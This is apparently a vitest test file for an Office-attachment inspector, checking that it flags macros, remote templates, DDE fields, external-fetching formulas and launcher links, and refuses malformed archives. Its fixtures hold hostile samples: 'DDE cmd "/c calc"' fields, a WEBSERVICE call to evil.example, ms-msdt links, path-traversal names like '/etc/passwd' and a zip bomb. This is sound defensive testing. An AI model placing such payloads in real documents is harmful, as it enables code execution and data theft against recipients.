/** What stands inside Office files: what is refused, what is only told, what stays. */
import { describe, expect, test } from 'vitest';
import { attachmentFindings } from '../../../../src/intake/inspection/attachment.ts';
import {
  compound,
  docx,
  packed,
  pptx,
  RELATION,
  relationships,
  xlsx,
  type Stuffing,
} from '../../../office-file.ts';

const makers = { docx, xlsx, pptx };
type Ending = keyof typeof makers;

const foundIn = async (bytes: Buffer, ending: string): Promise<string[]> =>
  (await attachmentFindings(bytes, ending)).map(
    (one) => `${one.id === 'resource-unseen' ? '看不进：' : ''}${one.found ?? one.what}`,
  );

const MICROSOFT = 'http://schemas.microsoft.com/office/2006/relationships/';
const VBA = 'application/vnd.ms-office.vbaProject';

const MATHTYPE = '03ce020000000000c000000000000046';

describe('macros, whatever they are called and wherever they are said to be', () => {
  test.each<[string, Ending, Stuffing]>([
    ['by the type', 'docx', { types: [VBA] }],
    ['by a type in other letters', 'docx', { types: [VBA.toUpperCase()] }],
    ['by a type with references', 'docx', { types: ['application/vnd.ms-office.vba&#80;roject'] }],
    [
      'by a type with hexadecimal ones',
      'xlsx',
      { types: ['application/vnd.ms-office.&#x76;baProject'] },
    ],
    [
      'by the main part',
      'docx',
      { types: ['application/vnd.ms-word.document.macroEnabled.main+xml'] },
    ],
    [
      'by a template',
      'pptx',
      { types: ['application/vnd.ms-powerpoint.template.macroEnabled.main+xml'] },
    ],
    ['by a sheet of the old kind', 'xlsx', { types: ['application/vnd.ms-excel.macrosheet+xml'] }],
    ['by the relationship', 'xlsx', { relations: [[`${MICROSOFT}vbaProject`, 'picture.png']] }],
    [
      'by a relationship of the old kind',
      'xlsx',
      { relations: [[`${MICROSOFT}xlMacrosheet`, 'x.xml']] },
    ],
    [
      'by what the part is',
      'docx',
      { parts: { 'word/media/image1.png': compound(['VBA', '_VBA_PROJECT']) } },
    ],
    [
      'by what an object is',
      'pptx',
      { parts: { 'ppt/embeddings/oleObject1.bin': compound(['Macros', 'VBA']) } },
    ],
    ['in a document in it', 'pptx', { parts: { 'ppt/embeddings/a.docx': docx({ types: [VBA] }) } }],
    [
      'in UTF-16',
      'docx',
      {
        parts: {
          '[Content_Types].xml': Buffer.from(
            `\ufeff<?xml version="1.0" encoding="UTF-16"?><Types><Override PartName="/x" ContentType="${VBA}"/></Types>`,
            'utf16le',
          ),
        },
      },
    ],
    [
      'between remarks',
      'docx',
      {
        parts: {
          'word/_rels/x.xml.rels': `<!-- --><Relationships><r:Relationship\n\tTarget='a'\n\tType = '${MICROSOFT}vbaProject' /></Relationships>`,
        },
      },
    ],
  ])('%s', async (_, ending, stuffing) => {
    expect(await foundIn(makers[ending](stuffing), ending)).toContain('宏');
  });
});

describe('what runs or fetches', () => {
  const external = (type: string, target: string) => ({
    relations: [[`${RELATION}${type}`, target, 'External'] as const],
  });
  const field = (...pieces: string[]) => ({
    parts: {
      'word/document.xml': `<w:document><w:p>${[
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>',
        ...pieces.map((one) => `<w:r><w:instrText xml:space="preserve">${one}</w:instrText></w:r>`),
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
      ].join('')}</w:p></w:document>`,
    },
  });
  const formula = (text: string) => ({
    parts: { 'xl/worksheets/sheet1.xml': `<worksheet><c r="A1"><f>${text}</f></c></worksheet>` },
  });

  test.each<[string, Ending, Stuffing, string]>([
    [
      'a template elsewhere',
      'docx',
      external('attachedTemplate', 'https://evil.example/t.dotm'),
      '别处的模板',
    ],
    [
      'a template on a server',
      'docx',
      external('attachedTemplate', 'file://server/t.dotm'),
      '别处的模板',
    ],
    [
      'a template that is not said to be elsewhere',
      'docx',
      { relations: [[`${RELATION}attachedTemplate`, '\\\\server\\t.dotm']] },
      '别处的模板',
    ],
    [
      'a picture elsewhere',
      'docx',
      external('image', 'https://evil.example/pixel.png'),
      '别处的图片',
    ],
    ['a film elsewhere', 'pptx', external('video', 'https://evil.example/a.mp4'), '别处的音像'],
    ['an object elsewhere', 'docx', external('oleObject', 'https://evil.example/a'), '嵌入的对象'],
    ['a frame', 'docx', external('frame', 'https://evil.example/'), '连到别处的内容'],
    ['a document in parts', 'docx', external('subDocument', 'b.docx'), '连到别处的内容'],
    [
      'a workbook elsewhere',
      'xlsx',
      { relations: [[`${RELATION}externalLink`, 'a.xml']] },
      '外部数据的链接',
    ],
    [
      'a connection',
      'xlsx',
      { types: ['application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml'] },
      '外部数据的链接',
    ],
    [
      'a link that starts a program',
      'docx',
      external('hyperlink', 'ms-msdt:/id'),
      '会启动程序的链接',
    ],
    [
      'a link that is a program',
      'docx',
      external('hyperlink', 'javascript:alert(1)'),
      '会启动程序的链接',
    ],
    [
      'a link to a server in the house',
      'docx',
      external('hyperlink', 'file://server/a'),
      '会启动程序的链接',
    ],
    ['a control', 'docx', { relations: [[`${RELATION}control`, 'activeX/activeX1.xml']] }, '控件'],
    ['a control by its type', 'docx', { types: ['application/vnd.ms-office.activeX+xml'] }, '控件'],
    [
      'a page in it',
      'docx',
      { relations: [[`${RELATION}aFChunk`, 'chunk.htm']] },
      '嵌入的网页或文档',
    ],
    ['an object', 'docx', { relations: [[`${RELATION}oleObject`, 'a.bin']] }, '嵌入的对象'],
    [
      'a packed program',
      'docx',
      { parts: { 'word/a.bin': compound(['\u0001Ole10Native']) } },
      '嵌入的对象',
    ],
    ['a program', 'docx', { parts: { 'word/media/image1.png': 'MZ\u0090\u0000' } }, '程序'],
    ['DDE', 'docx', field('DDE cmd "/c calc"'), '会取外来内容的域'],
    ['DDE in pieces', 'docx', field(' DD', 'EAU', 'TO c:\\\\calc'), '会取外来内容的域'],
    ['DDE by numbers', 'docx', field('QUOTE 68 68 69 65 85 84 79'), '会取外来内容的域'],
    ['DDE by references', 'docx', field('&#68;DE cmd'), '会取外来内容的域'],
    [
      'DDE as a simple field',
      'docx',
      { parts: { 'word/footer1.xml': `<w:ftr><w:fldSimple w:instr='  ddeauto cmd'/></w:ftr>` } },
      '会取外来内容的域',
    ],
    [
      'a text from elsewhere',
      'docx',
      field('INCLUDETEXT "https://evil.example/a"'),
      '会取外来内容的域',
    ],
    [
      'a service',
      'xlsx',
      formula('_xlfn.WEBSERVICE(&quot;https://evil.example/&quot;&amp;A1)'),
      '会连到外面的公式',
    ],
    ['DDE in a cell', 'xlsx', formula("1+cmd|'/c calc'!A0"), '会连到外面的公式'],
    [
      'DDE in a part of its own',
      'xlsx',
      { parts: { 'xl/x.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>' } },
      '外部数据的链接',
    ],
    [
      'a button that runs',
      'pptx',
      { parts: { 'ppt/slides/slide1.xml': '<p><a:hlinkClick action="ppaction://program"/></p>' } },
      '点了会运行程序的按钮',
    ],
  ])('%s', async (_, ending, stuffing, found) => {
    expect(await foundIn(makers[ending](stuffing), ending)).toContain(found);
  });
});

describe('containers that are none', () => {
  const good = { ...partsOfDocx() };
  function partsOfDocx() {
    return {
      '[Content_Types].xml':
        '<Types><Override PartName="/a.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
      'a.xml': '<a/>',
    };
  }
  const mangled = (change: (bytes: Buffer) => Buffer) => change(Buffer.from(docx()));
  /** The second of two parts of the same length gets the name of the first. */
  const doubled = (): Buffer => {
    const text = packed({ ...good, 'x1.xml': '<a/>', 'x2.xml': '<a/>' }).toString('latin1');
    return Buffer.from(text.replaceAll('x2.xml', 'x1.xml'), 'latin1');
  };
  test.each<[string, Buffer]>([
    ['a plain archive', packed({ 'a.txt': 'x' })],
    ['the name of the list alone', Buffer.from('PK\u0003\u0004[Content_Types].xml')],
    ['a compound file', compound(['WordDocument'])],
    ['an encrypted one', compound(['EncryptedPackage', 'EncryptionInfo'])],
    ['a page', Buffer.from('<html>[Content_Types].xml')],
    ['nothing', Buffer.alloc(0)],
    ['cut off', mangled((bytes) => bytes.subarray(0, bytes.length - 30))],
    ['half', mangled((bytes) => bytes.subarray(0, bytes.length / 2))],
    ['something before', mangled((bytes) => Buffer.concat([Buffer.from('MZ'), bytes]))],
    ['something after', mangled((bytes) => Buffer.concat([bytes, Buffer.from('<html>')]))],
    ['another list behind', mangled((bytes) => Buffer.concat([bytes, docx({ types: [VBA] })]))],
    ['a name that leads out', packed({ ...good, '../../evil.xml': '<a/>' })],
    ['a name that leads to the root', packed({ ...good, '/etc/passwd': 'x' })],
    ['a name of Windows', packed({ ...good, '..\\evil.xml': '<a/>' })],
    ['a name twice', doubled()],
    ['a name twice, in other letters', packed({ ...good, 'A.XML': '<a/>' })],
    ['an entity', packed({ ...good, 'a.xml': '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' })],
    [
      'an encoding nobody uses',
      packed({ ...good, 'a.xml': '<?xml version="1.0" encoding="UTF-7"?><a/>' }),
    ],
    ['a bomb', packed({ ...good, 'a.xml': Buffer.alloc(200 * 1024 * 1024, 32) })],
    ['the other kind', xlsx()],
  ])('%s', async (_, bytes) => {
    const findings = await attachmentFindings(bytes, 'docx');
    expect(findings.map((one) => one.id)).toEqual(['resource-forbidden']);
    expect(findings[0]?.hint).toMatch(/另存|密码/);
  });

  test('many layers', async () => {
    let inner = docx();
    for (let i = 0; i < 5; i += 1) inner = docx({ parts: { 'word/embeddings/a.docx': inner } });
    expect(await foundIn(inner, 'docx')).toContain('一层套一层的文件');
  });
});

describe('what stays', () => {
  test.each<[string, Ending, Stuffing]>([
    [
      'links to pages and people',
      'docx',
      {
        relations: [
          [`${RELATION}hyperlink`, 'https://mp.weixin.qq.com/link?a=1&amp;b=2', 'External'],
          [`${RELATION}hyperlink`, 'mailto:office@school.example', 'External'],
          [`${RELATION}hyperlink`, '#bookmark', 'External'],
          [`${RELATION}hyperlink`, 'jilu.xlsx', 'External'],
        ],
      },
    ],
    ['pictures', 'docx', { relations: [[`${RELATION}image`, 'media/image1.png']] }],
    [
      'a chart with its workbook',
      'pptx',
      {
        relations: [[`${RELATION}package`, '../embeddings/Microsoft_Excel_Sheet1.xlsx']],
        parts: { 'ppt/embeddings/Microsoft_Excel_Sheet1.xlsx': xlsx() },
      },
    ],
    [
      'fields of every day',
      'docx',
      {
        parts: {
          'word/document.xml':
            '<w:p><w:fldChar/><w:instrText> PAGE </w:instrText><w:fldChar/><w:instrText> HYPERLINK "https://a.example/link/dde" </w:instrText><w:fldChar/><w:instrText> TOC \\o "1-3" </w:instrText><w:t>DDE 是什么</w:t></w:p>',
        },
      },
    ],
    [
      'formulas of every day',
      'xlsx',
      {
        parts: {
          'xl/worksheets/sheet1.xml':
            '<c><f>SUM(A1:A3)*IF(B1&gt;3,1,0)</f></c><c><f>\'三 班\'!A1&amp;"a|b"</f></c><c t="s"><v>=cmd|x!A0</v></c>',
        },
      },
    ],
    [
      'a slide that leads on',
      'pptx',
      {
        parts: {
          'ppt/slides/slide1.xml':
            '<p><a:hlinkClick action="ppaction://hlinkshowjump?jump=nextslide"/></p>',
        },
      },
    ],
    [
      'a theme, a printer, a thumbnail',
      'xlsx',
      {
        types: [
          'application/vnd.openxmlformats-officedocument.theme+xml',
          'application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings',
          'image/jpeg',
        ],
      },
    ],
  ])('%s', async (_, ending, stuffing) => {
    expect(await foundIn(makers[ending](stuffing), ending)).toEqual([]);
  });

  test.each<[string, Stuffing, string]>([
    [
      'a formula of MathType',
      {
        relations: [[`${RELATION}oleObject`, 'embeddings/oleObject1.bin']],
        parts: { 'word/embeddings/oleObject1.bin': compound(['Equation Native'], MATHTYPE) },
      },
      '看不进：MathType 公式',
    ],
    [
      'a picture copied from a page',
      {
        parts: {
          'word/document.xml':
            '<w:instrText> INCLUDEPICTURE "https://a.example/x.png" \\* MERGEFORMATINET </w:instrText>',
        },
      },
      '看不进：从网上取图片的域',
    ],
    [
      'a link to one’s own disk',
      { relations: [[`${RELATION}hyperlink`, 'file:///D:\\课件\\a.pptx', 'External']] },
      '看不进：指向自己电脑上文件的链接',
    ],
  ])('%s is told to whoever reviews it', async (_, stuffing, told) => {
    expect(await foundIn(docx(stuffing), 'docx')).toEqual([told]);
  });

  test('relationships of any part are read', async () => {
    const parts = {
      'word/_rels/header1.xml.rels': relationships([
        [`${RELATION}image`, 'https://a.example/x', 'External'],
      ]),
    };
    expect(await foundIn(docx({ parts }), 'docx')).toEqual(['别处的图片']);
  });
});
